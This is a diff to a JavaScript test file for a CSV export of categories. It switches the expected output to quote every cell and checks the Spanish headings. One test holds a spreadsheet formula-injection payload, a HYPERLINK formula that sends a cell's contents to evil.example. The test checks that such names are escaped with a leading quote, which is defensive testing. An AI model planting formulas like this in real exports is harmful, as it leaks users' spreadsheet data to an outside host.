@@ -136,11 +136,11 @@ describe('writing', () => {
     { id: MAX, name: 'Chèvre' },
   ];
 
-  it('writes CSV with a number,name header, by number, quoted where needed', () => {
+  it('writes CSV with a number,name header, by number, every cell quoted', () => {
     expect(categoriesCsv(list)).toBe(
-      `\uFEFFnumber,name\r\n2,"Dog, large"\r\n10,Rabbit\r\n${MAX},Chèvre\r\n`,
+      `\uFEFF"number","name"\r\n"2","Dog, large"\r\n"10","Rabbit"\r\n"${MAX}","Chèvre"\r\n`,
     );
-    expect(categoriesCsv([])).toBe('\uFEFFnumber,name\r\n');
+    expect(categoriesCsv([])).toBe('\uFEFF"number","name"\r\n');
   });
 
   it('escapes a name a spreadsheet would run as a formula, with a leading quote', () => {
@@ -149,9 +149,9 @@ describe('writing', () => {
       { id: '3', name: '@SUM(1+1)' },
     ];
     expect(categoriesCsv(hostile)).toBe(
-      '\uFEFFnumber,name\r\n' +
-        '2,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Dog"")"\r\n' +
-        '3,"\'@SUM(1+1)"\r\n',
+      '\uFEFF"number","name"\r\n' +
+        '"2","\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Dog"")"\r\n' +
+        '"3","\'@SUM(1+1)"\r\n',
     );
   });
 
@@ -206,7 +206,7 @@ describe('in Spanish', () => {
   it('writes its CSV headings in Spanish, which read back', async () => {
     await applyLanguage('es');
     const csv = categoriesCsv([{ id: '2', name: 'Perro' }]);
-    expect(csv).toBe('\uFEFFnumero,nombre\r\n2,Perro\r\n');
+    expect(csv).toBe('\uFEFF"numero","nombre"\r\n"2","Perro"\r\n');
     expect(listOf(csv)).toEqual([{ id: '2', name: 'Perro' }]);
     expect(problemsOf('numero,nombre\nx,Gato\n')).toEqual([
       'Fila 2: \u00abx\u00bb no es un n\u00famero de categor\u00eda.',
